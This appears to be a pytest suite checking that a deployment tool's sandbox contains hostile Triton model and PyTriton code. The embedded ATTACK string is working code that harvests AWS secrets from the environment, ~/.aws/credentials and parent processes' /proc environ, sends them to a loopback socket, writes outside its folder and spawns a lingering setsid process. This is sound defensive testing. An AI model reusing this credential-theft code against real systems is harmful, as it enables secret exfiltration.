"""Hostile repository code meets the box: `deploy validate`, `init-config` and `bind`.

GIVEN a repository (or a PyTriton script) whose code, when deploy runs it,
reads AWS_SECRET_ACCESS_KEY and AWS_SESSION_TOKEN from its environment and
the invoking user's ~/.aws/credentials, opens an internet socket and connects
to a loopback listener the test owns, writes outside its folder and leaves a
`setsid` child sleeping,
WHEN the real `deploy` command runs it as an unprivileged user,
THEN the listener gets no connection, the secrets appear nowhere, nothing
outside the copy was written, no descendant is alive, and the run was
announced naming the file.

The command runs as uid/gid 65534 with no groups (`setpriv`). Its one
capability, CAP_DAC_READ_SEARCH, only lets it read this machine's Python,
which lives under /root (mode 0700); it grants nothing the box relies on
(seccomp, Landlock and rlimits need no privilege). The code under test
reports what each attempt gave in the names it states (outputs, models), so
a test that passed because the code never ran would fail.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
NOBODY = 65534
SECRET_KEY = "boxtestSECRETkey0123456789abcdef"
SESSION_TOKEN = "boxtestSESSIONtoken0123456789abcdef"
FILE_SECRET = "boxtestFILEsecret0123456789abcdef"
SECRETS = (SECRET_KEY, SESSION_TOKEN, FILE_SECRET)

# What the code tries; each result is 1 (it worked) or 0 (it was stopped).
ATTACK = """
import os, socket, subprocess

def attack():
    seen = {}
    env = os.environ.get("AWS_SECRET_ACCESS_KEY", "") + os.environ.get("AWS_SESSION_TOKEN", "")
    seen["env"] = int(bool(env))
    loot = env
    for path in ("~/.aws/credentials", CREDENTIALS):
        try:
            loot += open(os.path.expanduser(path)).read()
            seen["file"] = 1
        except OSError:
            seen.setdefault("file", 0)
    # deploy's own environment, through /proc, up the chain of parents
    pid, found = os.getppid(), ""
    while pid > 1:
        try:
            found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            pass
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    seen["proc"] = int("AWS_SECRET_ACCESS_KEY" in found)
    loot += found
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(("127.0.0.1", PORT))
        s.sendall(loot.encode() or b"connected")
        s.close()
        seen["net"] = 1
    except OSError:
        seen["net"] = 0
    try:
        with open(os.path.join(OUTSIDE, "loot-" + str(os.getpid())), "w") as f:
            f.write(loot or "written")
        seen["write"] = 1
    except OSError:
        seen["write"] = 0
    subprocess.Popen(["setsid", "sleep", MARKER], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "_".join(f"{k}{v}" for k, v in sorted(seen.items()))
"""
BLOCKED = "env0_file0_net0_proc0_write0"


@dataclass
class Scene:
    root: Path
    home: Path
    outside: Path
    listener: socket.socket
    marker: str

    def attack_code(self) -> str:
        return (
            f"CREDENTIALS = {str(self.home / '.aws' / 'credentials')!r}\n"
            f"PORT = {self.listener.getsockname()[1]}\n"
            f"OUTSIDE = {str(self.outside)!r}\n"
            f"MARKER = {self.marker!r}\n" + ATTACK
        )

    def deploy(self, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        """The real command line, as uid 65534, with credentials in its environment."""
        env = {
            "DEPLOY_LOCAL_PORT": "0",  # any free port: the machine is shared
            "PATH": os.environ.get("PATH", os.defpath),
            "PYTHONPATH": str(ROOT),
            "HOME": str(self.home),
            "AWS_ACCESS_KEY_ID": "AKIABOXTEST",
            "AWS_SECRET_ACCESS_KEY": SECRET_KEY,
            "AWS_SESSION_TOKEN": SESSION_TOKEN,
            "COLUMNS": "200",
        }
        command = [
            "setpriv",
            f"--reuid={NOBODY}",
            f"--regid={NOBODY}",
            "--clear-groups",
            "--inh-caps=+dac_read_search",
            "--ambient-caps=+dac_read_search",
            sys.executable,
            "-m",
            "deploy",
            *args,
        ]
        return subprocess.run(
            command,
            capture_output=True,
            text=True,
            timeout=timeout,
            cwd=self.root,
            env=env,
            check=False,
        )

    def assert_contained(
        self, result: subprocess.CompletedProcess[str], *, ran: str | None
    ) -> None:
        self.listener.settimeout(0.5)
        with pytest.raises(TimeoutError):
            connection, _ = self.listener.accept()
            connection.close()
        written = [p for p in self.outside.rglob("*")]
        assert written == [], f"the code wrote outside its folder: {written}"
        everything = result.stdout + result.stderr + _files_text(self.root, skip=self.home)
        for secret in SECRETS:
            assert secret not in everything
        time.sleep(0.2)
        alive = _with_marker(self.marker)
        assert alive == [], f"processes the code started still run: {alive}"
        if ran is not None:
            assert f"running repository code: {ran}" in result.stderr, result.stderr


def _files_text(root: Path, *, skip: Path) -> str:
    parts = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_relative_to(skip):
            parts.append(path.read_text(encoding="utf-8", errors="replace"))
    return "".join(parts)


def _with_marker(marker: str) -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if marker.encode() in (proc / "cmdline").read_bytes():
                    found.append(proc.name)
            except OSError:
                continue
    return found


@pytest.fixture
def scene() -> Iterator[Scene]:
    root = Path(tempfile.mkdtemp(prefix="deploy-box-test-"))
    root.chmod(0o755)
    home, outside = root / "home", root / "outside"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = AKIABOXTEST\naws_secret_access_key = {FILE_SECRET}\n"
    )
    outside.mkdir()
    for path in (root, *root.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    marker = f"{900 + os.getpid() % 97}.{time.time_ns() % 10**9}"
    try:
        yield Scene(root, home, outside, listener, marker)
    finally:
        listener.close()
        for pid in _with_marker(marker):
            os.kill(int(pid), 9)
        shutil.rmtree(root, ignore_errors=True)


def hostile_model(scene: Scene, *, config: str | None) -> Path:
    """A python model whose auto_complete_config attacks, and names its output after it."""
    repo = scene.root / "repo"
    version = repo / "m" / "1"
    version.mkdir(parents=True)
    (version / "model.py").write_text(
        scene.attack_code()
        + textwrap.dedent(
            """
            class TritonPythonModel:
                @staticmethod
                def auto_complete_config(config):
                    seen = attack()
                    config.add_input({"name": "X", "data_type": "TYPE_FP32", "dims": [2]})
                    config.add_output({"name": seen, "data_type": "TYPE_FP32", "dims": [2]})
                    return config

                def execute(self, requests):
                    return []
            """
        )
    )
    if config is not None:
        (repo / "m" / "config.pbtxt").write_text(config)
    for path in (repo, *repo.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    return repo


def test_validate_runs_a_hostile_auto_complete_config_in_the_box(scene: Scene) -> None:
    repo = hostile_model(scene, config=None)
    before = _files_text(repo, skip=scene.home)
    result = scene.deploy("validate", str(repo), "--json", "--show-config")
    assert result.returncode == 0, result.stdout + result.stderr
    config = json.loads(result.stdout)["configs"][0]
    outputs = [o["name"] for o in config["config"]["output"]]
    assert outputs == [BLOCKED], "the hook ran, and every attempt was stopped"
    scene.assert_contained(result, ran=f"{repo}/m/1/model.py (auto_complete_config)")
    assert _files_text(repo, skip=scene.home) == before, "the repository is unchanged"


def test_init_config_runs_a_hostile_auto_complete_config_in_the_box(scene: Scene) -> None:
    repo = hostile_model(scene, config=None)
    result = scene.deploy("init-config", str(repo / "m"), "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    assert f'name: "{BLOCKED}"' in (repo / "m" / "config.pbtxt").read_text()
    scene.assert_contained(result, ran=f"{repo}/m/1/model.py (auto_complete_config)")


def test_bind_runs_a_hostile_script_in_the_box(scene: Scene) -> None:
    app = scene.root / "app"
    app.mkdir()
    (app / "server.py").write_text(
        scene.attack_code()
        + textwrap.dedent(
            """
            import numpy as np
            from pytriton.model_config import Tensor
            from pytriton.triton import Triton

            def infer(requests):
                return [{"y": r["x"]} for r in requests]

            with Triton() as triton:
                triton.bind(attack(), infer, [Tensor(name="x", dtype=np.float32, shape=(-1,))],
                            [Tensor(name="y", dtype=np.float32, shape=(-1,))])
                triton.serve()
            """
        )
    )
    for path in (app, *app.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    out = scene.root / "bound"
    result = scene.deploy("bind", str(app / "server.py"), "--out", str(out), "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    assert [p.name for p in out.iterdir() if p.is_dir()] == [BLOCKED]
    scene.assert_contained(result, ran=f"{app}/server.py (deploy bind")


def test_no_repo_code_refuses_a_model_that_needs_its_hook_naming_the_flag(scene: Scene) -> None:
    repo = hostile_model(scene, config=None)
    result = scene.deploy("validate", str(repo), "--no-repo-code")
    assert result.returncode == 1
    assert "--no-repo-code" in result.stdout + result.stderr
    assert "running repository code" not in result.stderr
    assert "Traceback" not in result.stderr


def test_no_repo_code_skips_a_complete_configs_hook_and_says_it_went_unchecked(
    scene: Scene,
) -> None:
    config = (
        'name: "m"\nbackend: "python"\n'
        'input [ { name: "X", data_type: TYPE_FP32, dims: [ 2 ] } ]\n'
        'output [ { name: "Y", data_type: TYPE_FP32, dims: [ 2 ] } ]\n'
    )
    repo = hostile_model(scene, config=config)
    result = scene.deploy("validate", str(repo), "--no-repo-code")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "went unchecked" in result.stderr
    assert "running repository code" not in result.stderr
    assert _with_marker(scene.marker) == []


def test_the_deploy_toml_setting_skips_repository_code(scene: Scene) -> None:
    repo = hostile_model(scene, config=None)
    (scene.root / "deploy.toml").write_text("[default]\nrepository_code = false\n")
    os.chown(scene.root / "deploy.toml", NOBODY, NOBODY)
    result = scene.deploy("validate", str(repo))
    assert result.returncode == 1
    assert "repository_code = false" in result.stdout + result.stderr
    assert "running repository code" not in result.stderr


def test_a_hook_that_hogs_memory_meets_the_data_limit(scene: Scene) -> None:
    repo = scene.root / "repo"
    version = repo / "hog" / "1"
    version.mkdir(parents=True)
    # An anonymous private mapping counts against RLIMIT_DATA; unlimited, it costs no memory
    # until touched, so the test is cheap on a machine without the limit too. 8 GiB: above
    # the hook's 4 GiB, below what this machine (23 GiB) lets a mapping reserve.
    (version / "model.py").write_text(
        textwrap.dedent(
            """
            import mmap

            class TritonPythonModel:
                @staticmethod
                def auto_complete_config(config):
                    private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
                    hog = mmap.mmap(-1, 8 << 30, flags=private)
                    config.add_input({"name": "X", "data_type": "TYPE_FP32", "dims": [2]})
                    config.add_output({"name": "Y", "data_type": "TYPE_FP32", "dims": [2]})
                    return config
            """
        )
    )
    for path in (repo, *repo.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    result = scene.deploy("validate", str(repo))
    assert result.returncode == 1
    assert "auto_complete_config failed" in result.stdout + result.stderr
    assert "Cannot allocate memory" in result.stdout + result.stderr


SERVED_CONFIG = """
name: "m"
backend: "python"
max_batch_size: 0
input [ { name: "X", data_type: TYPE_FP32, dims: [ 2 ] } ]
output [ { name: "SEEN", data_type: TYPE_STRING, dims: [ 1 ] } ]
"""


@pytest.mark.triton
@pytest.mark.slow
def test_the_local_endpoint_serves_a_hostile_python_model_in_the_box(scene: Scene) -> None:
    repo = scene.root / "repo"
    version = repo / "m" / "1"
    version.mkdir(parents=True)
    (repo / "m" / "config.pbtxt").write_text(SERVED_CONFIG)
    (version / "model.py").write_text(
        scene.attack_code()
        + textwrap.dedent(
            """
            import numpy as np
            import triton_python_backend_utils as pb_utils

            class TritonPythonModel:
                def initialize(self, args):
                    self.seen = attack()

                def execute(self, requests):
                    answer = np.array([self.seen.encode()], dtype=object)
                    return [
                        pb_utils.InferenceResponse([pb_utils.Tensor("SEEN", answer)])
                        for _ in requests
                    ]
            """
        )
    )
    for path in (repo, *repo.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    up = scene.deploy(
        "up",
        "--local",
        "--repository",
        str(repo),
        "--package-dir",
        "build",
        "--json",
        timeout=300,
    )
    try:
        assert up.returncode == 0, up.stdout + up.stderr
        url = json.loads(up.stdout)["url"]
        manifest = json.loads((scene.root / "build" / "manifest.json").read_text())
        target = manifest["models"]["m"]["target_model"]
        body = json.dumps(
            {"inputs": [{"name": "X", "shape": [2], "datatype": "FP32", "data": [1, 2]}]}
        ).encode()
        request = urllib.request.Request(
            f"{url}/endpoints/local/invocations",
            data=body,
            headers={"Content-Type": "application/json", "X-Amzn-SageMaker-Target-Model": target},
        )
        with urllib.request.urlopen(request, timeout=60) as response:
            answer = json.loads(response.read())
        assert answer["outputs"][0]["data"] == [BLOCKED], "the model ran; every attempt stopped"
    finally:
        down = scene.deploy("down", "--local", timeout=120)
    assert down.returncode == 0, down.stdout + down.stderr
    logs = "".join(
        p.read_text(errors="replace") for p in (scene.root / ".deploy").rglob("*") if p.is_file()
    )
    scene.assert_contained(up, ran=None)
    for secret in SECRETS:
        assert secret not in logs
    assert "(python model, served by tritonserver)" in up.stderr + logs
